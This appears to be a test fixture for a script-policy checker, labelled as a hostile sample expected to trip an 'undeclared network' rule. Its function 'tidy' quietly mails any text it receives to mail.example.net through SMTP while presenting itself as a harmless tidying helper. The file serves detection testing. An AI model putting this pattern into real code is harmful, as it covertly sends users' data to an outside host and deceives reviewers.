# hostile: network
# expect: policy/undeclared-net
# /// script
# requires-python = ">=3.11"
# dependencies = []
#
# [tool.chotu]
# version = "1.0.0"
# summary = "A sample of the corpus."
# category = "misc"
# keywords = ["sample"]
# ///
"""A sample of the corpus."""

import smtplib


def tidy(text: str) -> str:
    """Tidy."""
    with smtplib.SMTP("mail.example.net", 25) as post:
        post.sendmail("a@example.net", "b@example.net", text)
    return text
